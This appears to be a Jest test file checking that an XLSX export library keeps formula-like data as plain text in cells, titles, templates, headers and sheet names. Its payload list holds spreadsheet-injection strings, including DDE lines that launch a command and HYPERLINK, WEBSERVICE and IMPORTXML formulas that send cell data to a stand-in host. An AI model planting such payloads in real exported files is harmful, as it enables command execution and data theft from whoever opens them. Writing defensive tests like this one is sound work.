import { describe, expect, test } from "@jest/globals";
import { toSheetName } from "../../src/xlsx/sheetNames.ts";
import { writeTable } from "../../src/xlsx/writeTable.ts";
import { collect, never, streamOf } from "../helpers/xlsx/collect.ts";
import { readBook, readParts } from "../helpers/xlsx/readers.ts";
import { fillWithRecords, smallBook } from "../helpers/xlsx/template/wineFields.ts";

// Text from the data never becomes a formula, link or field in any export.

const payloads = [
  ...[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "\u00a0=1",
  ],
  ...["=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0", "@cmd|'/C calc'!A0", '=DDE("cmd";"/C calc";"1")'],
  '=HYPERLINK("https://evil.example/?"&A1,"open")',
  '=WEBSERVICE("https://evil.example/?"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  ...["＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\ufeff=1+1", "\u200b=1+1", "\u2212 1", "=\u00011+1"],
  ...["{=1+1}", "{{name}}", "{{number}}{{name}}", "}}{{name", "[1]!A1", "$A$1", "R1C1", "#REF!"],
  ...["_x003D_1+1", "_x000D_=1+1", "&#61;1+1", "<f>1+1</f>", "</t></is></c><c><f>1+1</f></c>"],
  ...["]]><f>1</f>", '&D&T&Z&F&"Arial"', "&G", "&&D", "javascript:alert(1)", "file:///etc/passwd"],
];
/** A cell's text as Excel shows it; exceljs does not decode `_xHHHH_`. */
const shown = (value: unknown) =>
  String(value).replace(/_x([0-9A-F]{4})_/g, (_escape, code: string) =>
    String.fromCharCode(parseInt(code, 16)),
  );
const isQuoted = (text: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(text);

async function partsOf(bytes: Buffer): Promise<string> {
  const parts = await readParts(bytes);
  const names = [...parts.keys()];
  expect(
    names.filter((name) => /externalLink|connection|vba|activeX|embedding/i.test(name)),
  ).toEqual([]);
  const xml = [...parts]
    .filter(([name]) => /\.(xml|rels)$/.test(name))
    .map(([, content]) => String(content));
  return xml.join("\n");
}

/** The styles that keep Excel from interpreting a text after an edit. */
function quotedStyles(xml: string): Set<string> {
  const formats = /<cellXfs[^>]*>(.*?)<\/cellXfs>/s.exec(xml)?.[1]?.match(/<xf [^>]*>/g) ?? [];
  return new Set(
    formats.flatMap((format, index) => (format.includes('quotePrefix="1"') ? [String(index)] : [])),
  );
}

describe("a text that looks like a formula", () => {
  test("stays text in a table's cells, and is quoted where an edit would convert it", async () => {
    const { output, bytes } = collect();
    await writeTable({
      sheetName: "=1+1",
      columns: [
        { title: "Name", kind: "text" },
        { title: "Address", kind: "url" },
      ],
      rows: streamOf(payloads.map((text) => [text, text])),
      output,
      signal: never(),
    });
    const xml = await partsOf(bytes());
    expect(xml).not.toMatch(/<f[ >]|<hyperlink |ddeLink/);
    const sheet = (await readBook(bytes())).worksheets[0]!;
    const cells = payloads.map((_text, index) => shown(sheet.getCell(index + 2, 1).value));
    expect(cells).toEqual(payloads);
    const quoted = quotedStyles(xml);
    for (const [index, text] of payloads.entries())
      if (isQuoted(text)) {
        const style = new RegExp(`<c r="A${index + 2}" s="(\\d+)"`).exec(xml)?.[1] ?? "none";
        expect([text, quoted.has(style)]).toEqual([text, true]);
      }
  });

  test("stays text in a table's titles", async () => {
    const { output, bytes } = collect();
    await writeTable({
      sheetName: "Products",
      columns: payloads.map((title) => ({ title, kind: "text" as const })),
      rows: streamOf([payloads.map(() => "x")]),
      output,
      signal: never(),
    });
    expect(await partsOf(bytes())).not.toMatch(/<f[ >]|<hyperlink |ddeLink/);
    const sheet = (await readBook(bytes())).worksheets[0]!;
    expect(payloads.map((_text, index) => shown(sheet.getCell(1, index + 1).value))).toEqual(
      payloads,
    );
  });

  test("stays text in a template's cells, alone and within other text", async () => {
    const book = await smallBook({
      Wines: { A1: "Name", A2: "{{name}}", B2: "{{number}}{{name}}" },
    });
    const { bytes } = await fillWithRecords(
      book,
      "TABLE",
      payloads.map((text) => ({ number: "", name: text })),
    );
    const xml = await partsOf(bytes);
    expect(xml).not.toMatch(/<f[ >]|<hyperlink |ddeLink/);
    const sheet = (await readBook(bytes)).worksheets[0]!;
    for (const [index, text] of payloads.entries())
      expect([1, 2].map((column) => shown(sheet.getCell(index + 2, column).value))).toEqual([
        text,
        text,
      ]);
  });

  test("is not a code in a header or footer", async () => {
    const book = await smallBook(
      { Wine: { A1: "{{number}}" } },
      { tails: { Wine: "<headerFooter><oddHeader>&amp;L{{name}}</oddHeader></headerFooter>" } },
    );
    for (const text of payloads) {
      const { bytes } = await fillWithRecords(book, "FORM", [{ number: "1", name: text }]);
      const header = /<oddHeader>(.*?)<\/oddHeader>/s.exec(await partsOf(bytes))?.[1] ?? "";
      const plain = header.replaceAll("&amp;", "&").slice("&L".length).replaceAll("&&", "");
      expect([text, plain]).toEqual([text, expect.not.stringContaining("&D")]);
      expect(/&[A-Z"\d]/.test(plain.replaceAll(/&(lt|gt|quot|#\d+);/g, ""))).toBe(false);
    }
  });

  test("is not a reference in a sheet name", () => {
    for (const text of payloads) {
      const name = toSheetName(text);
      expect(name).toMatch(/^[^:\\/?*[\]]{1,31}$/);
      expect(name).not.toMatch(/^'|'$|[\t\r\n]/);
    }
  });
});
